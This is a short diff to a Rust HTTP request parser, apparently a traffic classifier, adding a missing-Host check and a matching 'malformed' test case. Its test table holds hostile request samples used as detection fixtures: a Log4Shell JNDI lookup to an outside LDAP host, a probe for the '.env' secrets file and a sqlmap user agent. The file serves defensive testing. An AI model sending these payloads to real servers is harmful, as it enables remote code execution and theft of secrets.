@@ -46,6 +46,11 @@ impl<'a> Request<'a> {
         self.authorised
     }
 
+    /// Whether it named no host.
+    pub(super) fn lacks_host(&self) -> bool {
+        self.lines.lacks_host()
+    }
+
     /// What the header showed, and as much of the body as is there. Tells whether more of the
     /// body is worth waiting for.
     pub(super) fn judge(
@@ -250,6 +255,8 @@ mod tests {
                 "GET / HTTP/1.1\r\nAGENT\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n",
                 "known_exploit",
             ),
+            // RFC 9112 section 3.2.
+            ("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n", "malformed"),
             ("GET /.env HTTP/1.1\r\nAGENT\r\n\r\n", "probing"),
             (
                 "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.0\r\n\r\n",
